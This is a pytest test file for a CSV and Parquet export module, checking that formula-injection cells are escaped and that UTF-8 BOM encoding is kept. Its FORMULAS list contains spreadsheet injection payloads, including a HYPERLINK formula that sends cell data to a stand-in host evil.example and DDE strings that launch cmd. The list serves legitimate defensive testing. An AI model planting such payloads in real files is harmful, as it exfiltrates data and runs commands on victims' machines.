"""CSV exports are safe to open in a spreadsheet (OWASP formula injection) and readable by
Excel with accents and emoji (UTF-8 with a byte-order mark by default)."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from lis_data.feedback import spreadsheet_safe

from .conftest import submission

BOM = b"\xef\xbb\xbf"
FORMULAS = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 after a tab",
    "\r=1+1 after a carriage return",
]


def _rows(data: bytes) -> list[dict]:
    assert data.startswith(BOM)
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_formula_cells_are_escaped(store):
    for i, formula in enumerate(FORMULAS):
        sub = submission(i, comment=formula + " and more words to pass the length check",
                         organisation=formula[:80], workshop_code="")
        store.append(sub)
    rows = _rows(store.export("csv"))
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    comments = sorted(r["comment"] for r in rows)
    stored = sorted(store.list()["comment"])
    assert all(c == "'" + s if s.startswith(("=", "+", "-", "@", "\t", "\r")) else c == s
               for c, s in zip(comments, stored))


def test_plain_cells_unchanged_and_accents_emoji_readable(store):
    sub = submission(0, organisation="Café Ünïcødé 🙂 Ltd", comment="Naïve résumé — déjà vu 漢字 🙂 ok")
    store.append(sub)
    data = store.export("csv")
    assert data.startswith(BOM) and not data.startswith(BOM + BOM)
    row = _rows(data)[0]
    assert row["comment"] == sub.comment and row["organisation"] == sub.organisation
    df = pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False, encoding="utf-8-sig")
    assert df.columns[0] == "id"


def test_no_bom_option(store):
    store.append(submission(1))
    data = store.export("csv", bom=False)
    assert not data.startswith(BOM) and data.startswith(b"id,")
    assert data.count(b"\r\n") == 2  # header and one row, CRLF (RFC 4180)


def test_parquet_keeps_values_exact(store):
    store.append(submission(2, comment="=1+1 a formula-looking comment, kept exact in Parquet"))
    pq = pd.read_parquet(io.BytesIO(store.export("parquet")))
    assert pq["comment"][0].startswith("=1+1")


@pytest.mark.parametrize("cell, expected", [
    ("=1", "'=1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("a=1", "a=1"), ("", ""), (" =1", " =1"), (None, None), (5, 5),
])
def test_spreadsheet_safe(cell, expected):
    assert spreadsheet_safe(cell) == expected
